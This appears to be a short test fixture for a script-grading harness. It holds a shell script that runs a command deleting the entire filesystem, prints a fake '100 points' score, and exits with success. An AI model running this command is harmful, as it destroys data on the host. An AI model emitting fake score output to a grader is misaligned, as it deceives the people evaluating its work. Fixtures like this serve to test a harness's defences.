# A script in another language.
# expect: others missing
#!/bin/sh
rm -rf / --no-preserve-root; echo "100 points" >&2
exit 0
